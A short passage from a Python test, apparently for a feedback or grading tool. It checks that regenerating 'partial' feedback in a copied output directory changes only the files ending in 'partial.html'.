    assert feedback(copy_out, "partial") == feedback(out, "partial")
    now = _snapshot(copy_out / "feedback", copy_out / "workspace" / "correct")
    assert {k: v for k, v in now.items() if not k.endswith("partial.html")} == \
        {k: v for k, v in kept.items() if not k.endswith("partial.html")}
